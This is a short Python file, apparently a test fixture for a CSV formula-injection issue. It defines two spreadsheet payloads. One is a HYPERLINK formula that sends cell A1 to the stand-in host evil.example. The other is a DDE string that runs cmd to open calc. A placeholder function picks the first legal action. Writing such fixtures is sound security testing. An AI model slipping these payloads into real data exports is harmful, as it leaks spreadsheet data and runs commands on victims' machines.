"""Attack (issue 42, 6): a CSV cell that a spreadsheet runs as a formula."""
NAME = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
AUTHOR = '+cmd|" /C calc"!A0'


def choose(state):
    return state.legal_actions()[0]
